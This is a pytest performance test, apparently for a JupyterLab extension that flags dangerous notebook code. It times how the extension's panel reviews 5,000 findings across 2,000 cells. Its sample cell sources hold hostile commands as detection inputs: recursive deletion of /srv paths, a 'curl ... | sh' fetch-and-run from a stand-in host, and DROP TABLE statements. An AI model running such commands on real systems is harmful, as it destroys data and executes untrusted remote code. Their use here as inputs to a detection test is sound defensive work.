"""A notebook with 2,000 cells and 5,000 findings: judged as a whole, with the panel open and kept current."""

from __future__ import annotations

import json
from collections.abc import Iterator

import pytest

from .driver import Front, Server

CELLS = 2000
# Five findings in two cells.
SOURCES = (
    "import os, shutil\nshutil.rmtree('/srv/data/{0}')\nos.system('curl http://x.test/{0} | sh')",
    "import sqlite3\nsqlite3.connect('shop.db').execute('DROP TABLE sales_{0}')\nimport shutil\nshutil.rmtree('/srv/old/{0}')",
)
VET_ALL_MS = 180_000

# How long it takes from the message with a verdict until the panel has been drawn with it, and the longest that the
# page could not answer meanwhile.
WATCH = """() => {
    const kernel = window.jupyterapp.shell.currentWidget.sessionContext.session.kernel;
    const panel = document.querySelector('#jupyter-guard-panel');
    window.updates = [];
    window.blocked = 0;
    let told = 0;
    kernel.iopubMessage.connect((_, message) => {
        if (message.header.msg_type === 'comm_msg' && message.content.data?.type === 'report') {
            told = performance.now();
        }
    });
    new MutationObserver(() => {
        if (told) {
            const since = told;
            told = 0;
            // After this frame is on the screen.
            requestAnimationFrame(() => setTimeout(() => window.updates.push(performance.now() - since)));
        }
    }).observe(panel, {subtree: true, childList: true, characterData: true, attributes: true});
    new PerformanceObserver(list => {
        for (const entry of list.getEntries()) window.blocked = Math.max(window.blocked, entry.duration);
    }).observe({type: 'longtask'});
}"""


TRACKER = "/lab/api/settings/@jupyterlab/notebook-extension:tracker"


@pytest.fixture
def windowed(server: Server) -> Iterator[None]:
    """JupyterLab draws only the cells in sight, as it advises for long notebooks: else it is busy for minutes itself."""
    server.request(TRACKER, "PUT", {"raw": json.dumps({"windowingMode": "full"})})
    yield
    server.request(TRACKER, "PUT", {"raw": "{}"})


@pytest.mark.usefixtures("windowed")
def test_two_thousand_cells_and_five_thousand_findings(server: Server, front: Front) -> None:
    server.write_notebook("large.ipynb", [SOURCES[number % 2].format(number) for number in range(CELLS)])
    front.open_lab("large.ipynb")
    front.panel.get_by_role("heading", name="Guarded", exact=True).wait_for()
    front.page.evaluate(WATCH)
    begin = front.page.evaluate("() => performance.now()")
    front.panel.get_by_role("button", name="Vet all").click()
    front.panel.locator(".jg-VetAll").filter(has_text=" of ").wait_for()
    front.panel.locator(".jg-VetAll").filter(has_text="Vet all").wait_for(timeout=VET_ALL_MS)
    took = front.page.evaluate("() => performance.now()") - begin
    blocked = front.page.evaluate("() => window.blocked")
    count = int(front.panel.locator(".jg-Section-title .jg-Count").first.inner_text())
    nodes = front.page.evaluate("() => document.querySelectorAll('#jupyter-guard-panel *').length")
    front.page.evaluate("() => { window.blocked = 0; }")
    for number in range(6):
        front.page.evaluate(
            """number => void window.jupyterapp.shell.currentWidget.content.model.sharedModel
                .insertCell(0, {cell_type: 'code', source: `import sqlite3\\nsqlite3.connect('a.db').execute('DROP TABLE t${number}')`,
                    metadata: {}})""",
            number,
        )
        front.page.wait_for_timeout(400)
        front.run_any_cell(0)
        front.page.wait_for_function("n => window.updates.length > n", arg=number, timeout=20_000)
    updates = sorted(front.page.evaluate("() => window.updates"))
    blocked_by_updates = front.page.evaluate("() => window.blocked")
    print(
        f"\n{CELLS} cells, {count} findings judged in {took / 1000:.1f} s, the page blocked for {blocked:.0f} ms at most;"
        f" {nodes} nodes in the panel, updated in {[round(one) for one in updates]} ms,"
        f" the page blocked for {blocked_by_updates:.0f} ms at most, JupyterLab's own work with it"
    )
    assert count >= 5000
    # Long lists are drawn from their beginning on.
    assert nodes < 20_000
    front.panel.get_by_role("searchbox").fill("sales_1999")
    front.page.wait_for_function("() => document.querySelectorAll('.jg-Group').length === 1")
    front.panel.locator(".jg-Group-head").click()
    front.wait_for_active_cell(CELLS + len(updates) - 1)
